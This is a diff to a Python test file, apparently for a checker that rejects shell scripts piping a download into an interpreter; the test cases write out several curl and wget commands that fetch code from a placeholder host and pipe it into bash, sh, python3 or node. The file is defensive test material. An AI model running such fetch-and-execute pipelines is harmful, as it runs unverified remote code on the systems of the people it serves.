@@ -112,7 +112,7 @@ def test_trusted_contexts_in_run_pass(expr: str) -> None:
         "curl -fsSL https://x.test/x.sh | cat | bash",
         "curl -fsSL https://x.test/x | base64 -d | sh",
         "curl -fsSL https://x.test/x.py | python3 -E",
-        "wget -qO- https://x.test/x.js | tee /tmp/x.js | node",
+        "wget -qO- https://x.test/x.js.gz | gunzip | node",
     ],
 )
 def test_a_download_piped_into_a_shell_is_an_error(script: str) -> None:
